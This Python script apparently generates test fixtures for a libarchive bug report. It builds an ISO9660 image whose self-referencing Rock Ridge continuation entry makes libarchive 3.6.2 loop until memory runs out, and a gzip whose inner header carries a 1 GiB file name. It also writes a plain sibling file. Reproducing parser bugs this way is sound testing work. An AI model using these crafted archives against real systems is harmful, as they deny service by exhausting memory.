#!/usr/bin/env python3
"""Archives on which libarchive 3.6.2 never finishes (issue #13, finding 2), written into DIR
byte by byte (deterministic, synthetic), plus a healthy sibling:

- rockridge-ce-loop.iso: an ISO9660 image with Rock Ridge whose file's continuation entry
  (SUSP "CE") points at a continuation area that holds a name piece ("NM" with its
  CONTINUE flag) and a "CE" pointing at that same area again. libarchive reads the area, adds
  the name piece, registers the area again at the position it is reading, and loops there
  for ever, the name growing each round until memory runs out. Layout (2048-byte sectors):
  0-15 system area (zeros), 16 primary volume descriptor, 17 terminator, 18 type-L path
  table, 19 root directory ("." with the SUSP "SP" and Rock Ridge "RR" entries, "..", one file "A;1" with "NM" and
  "CE" in its system use field), 20 the continuation area, 21 the file's data, 22-25 zeros
  (libarchive's bidder wants 24 sectors).
- gzip-name-bomb.gz: a gzip whose content is another gzip header with the FNAME flag and a
  name that never ends: 1 GiB of one letter, about 1 MB compressed. libarchive's gzip bidder
  looks for the name's terminating zero byte, reading ahead into one growing buffer (the
  construction OSS-Fuzz found; libarchive later capped names at 1 MiB): it holds the whole
  name in memory.
- sibling.txt: a plain file.

usage: make_parser_loops.py DIR
"""
import os
import struct
import sys
import zlib

SECTOR = 2048


def both16(value):
    return struct.pack('<H', value) + struct.pack('>H', value)


def both32(value):
    return struct.pack('<I', value) + struct.pack('>I', value)


def directory_record(extent, size, flags, name, system_use=b''):
    """An ISO9660 directory record; a pad byte follows an even-length name."""
    pad = b'\x00' if len(name) % 2 == 0 else b''
    body = (bytes([0]) + both32(extent) + both32(size) + bytes(7) + bytes([flags, 0, 0]) + both16(1)
            + bytes([len(name)]) + name + pad + system_use)
    return bytes([len(body) + 1]) + body


def sector(content):
    assert len(content) <= SECTOR
    return content + bytes(SECTOR - len(content))


def rockridge_ce_loop():
    blocks = 26  # libarchive's bidder reads 24 sectors before it looks
    root = directory_record(19, SECTOR, 0x02, b'\x00')
    pvd = bytearray(SECTOR)
    pvd[0:7] = b'\x01CD001\x01'
    pvd[8:72] = b' ' * 64                       # system and volume identifiers: blank
    pvd[80:88] = both32(blocks)
    pvd[120:124] = both16(1)                    # volume set size
    pvd[124:128] = both16(1)                    # volume sequence number
    pvd[128:132] = both16(SECTOR)
    pvd[132:140] = both32(10)                   # path table size
    pvd[140:144] = struct.pack('<I', 18)        # type-L path table
    pvd[156:190] = root
    pvd[881] = 1                                # file structure version
    terminator = b'\xffCD001\x01'
    path_table = bytes([1, 0]) + struct.pack('<I', 19) + struct.pack('<H', 1) + b'\x00\x00'

    data = b'iso member data\n'
    ce_area_size = (5 + 200) + 28

    def continuation(extent):
        return b'CE' + bytes([28, 1]) + both32(extent) + both32(0) + both32(ce_area_size)

    name_piece = b'NM' + bytes([5 + 200, 1, 0x01]) + b'x' * 200   # flag 1: the name continues
    sp = b'SP' + bytes([7, 1, 0xBE, 0xEF, 0]) + b'RR' + bytes([5, 1, 0x08])   # SUSP in use; Rock Ridge "NM"s
    file_use = b'NM' + bytes([6, 1, 0x01, ord('a')]) + continuation(20)
    directory = (directory_record(19, SECTOR, 0x02, b'\x00', sp) + directory_record(19, SECTOR, 0x02, b'\x01')
                 + directory_record(21, len(data), 0x00, b'A;1', file_use))
    image = bytes(16 * SECTOR) + sector(bytes(pvd)) + sector(terminator) + sector(path_table)
    image += sector(directory) + sector(name_piece + continuation(20)) + sector(data) + bytes(4 * SECTOR)
    assert len(image) == blocks * SECTOR
    return image


def gzip_name_bomb(name_bytes=1 << 30):
    inner_header = b'\x1f\x8b\x08\x08' + bytes(4) + b'\x00\xff'   # FNAME set; the name follows
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [b'\x1f\x8b\x08\x00' + bytes(4) + b'\x00\xff', compressor.compress(inner_header)]
    chunk = b'n' * (1 << 20)
    crc = zlib.crc32(inner_header)
    for _ in range(name_bytes // len(chunk)):
        parts.append(compressor.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    parts.append(compressor.flush())
    parts.append(struct.pack('<II', crc, (len(inner_header) + name_bytes) & 0xFFFFFFFF))
    return b''.join(parts)


def main(directory):
    os.makedirs(directory, exist_ok=True)
    for name, content in [('rockridge-ce-loop.iso', rockridge_ce_loop()), ('gzip-name-bomb.gz', gzip_name_bomb()),
                          ('sibling.txt', b'a plain file beside the loops\n')]:
        with open(os.path.join(directory, name), 'wb') as handle:
            handle.write(content)


if __name__ == '__main__':
    main(sys.argv[1])
